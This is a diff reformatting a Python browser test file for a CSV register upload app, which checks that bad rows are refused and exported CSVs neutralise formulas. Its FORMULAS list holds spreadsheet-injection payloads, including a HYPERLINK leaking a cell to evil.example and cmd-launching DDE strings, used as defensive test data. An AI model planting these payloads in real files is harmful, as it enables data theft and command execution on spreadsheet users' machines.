@@ -1,5 +1,6 @@
 """Officers upload the inclusion register in the browser: a bad file is refused row by row and
 changes nothing; a good one is previewed, confirmed, stored as a version and rebuilt into every page."""
+
 from __future__ import annotations
 
 from pathlib import Path
@@ -43,8 +44,17 @@ def test_upload_refuses_bad_rows_then_previews_confirms_and_rebuilds(browser, of
         build_before = Database(db).build_info()["build_id"]
 
         bad = tmp_path / "bad_register.csv"
-        bad.write_text("\n".join([HEADER, "2026-05,E05015018,Library,2,5,forty,3,2,published",
-                                  "2026-05,Narnia,Library,2,5,40,3,2,published"]) + "\n", encoding="utf-8")
+        bad.write_text(
+            "\n".join(
+                [
+                    HEADER,
+                    "2026-05,E05015018,Library,2,5,forty,3,2,published",
+                    "2026-05,Narnia,Library,2,5,40,3,2,published",
+                ]
+            )
+            + "\n",
+            encoding="utf-8",
+        )
         _upload(page, bad)
         page.get_by_text("bad_register.csv was not accepted: 2 problem(s)").wait_for(timeout=30000)
         wait_ready(page)
@@ -53,8 +63,17 @@ def test_upload_refuses_bad_rows_then_previews_confirms_and_rebuilds(browser, of
         assert Database(db).build_info()["build_id"] == build_before and register.versions(folder) == []
 
         good = tmp_path / "march_register.csv"
-        good.write_text("\n".join([HEADER, "2026-05,E05015018,Library,2,5,40,3,2,published",
-                                   "2026-05,Heatons North,Library,1,2,12,0,1,published"]) + "\n", encoding="utf-8")
+        good.write_text(
+            "\n".join(
+                [
+                    HEADER,
+                    "2026-05,E05015018,Library,2,5,40,3,2,published",
+                    "2026-05,Heatons North,Library,1,2,12,0,1,published",
+                ]
+            )
+            + "\n",
+            encoding="utf-8",
+        )
         _upload(page, good)
         page.get_by_text("march_register.csv passed every check").wait_for(timeout=30000)
         wait_ready(page)
@@ -97,14 +116,22 @@ window.showSaveFilePicker = async () => ({createWritable: async () => {
 """
 # From the hostile tester's uploads (issue 30), and the forms validation turns into a plain sign:
 # full-width, after spaces or a tab.
-FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Library")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|'/c calc'!A1",
-            "=1+1", "\uff1d2+2", "  =3+3", "\t-4+4"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Library")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|'/c calc'!A1",
+    "=1+1",
+    "\uff1d2+2",
+    "  =3+3",
+    "\t-4+4",
+]
 
 
 def _grid_csv(page, grid) -> list[list[str]]:
     """The rows the grid's toolbar "Download as CSV" gives the browser."""
     import csv
     import io
+
     before = page.evaluate("window.__exports.length")
     grid.hover()  # the toolbar shows on hover; the grid's own canvas can lie over it, so the click goes to the button
     grid.get_by_role("button", name="Download as CSV").dispatch_event("click")
@@ -131,8 +158,11 @@ def test_every_csv_the_register_page_gives_a_browser_has_its_formulas_made_inert
         hostile = tmp_path / "hostile.csv"
         with hostile.open("w", newline="", encoding="utf-8") as f:
             import csv
-            csv.writer(f).writerows([register.COLUMNS] + [["2026-05", "E05015018", partner, 1, 2, 3, 0, 1, "published"]
-                                                          for partner in FORMULAS])
+
+            csv.writer(f).writerows(
+                [register.COLUMNS]
+                + [["2026-05", "E05015018", partner, 1, 2, 3, 0, 1, "published"] for partner in FORMULAS]
+            )
         bad = tmp_path / "bad_header.csv"
         bad.write_text(HEADER + ",=1+1,=1+1\n2026-05,E05015018,Library,2,5,40,3,2,published,,\n", encoding="utf-8")
         _upload(page, bad)
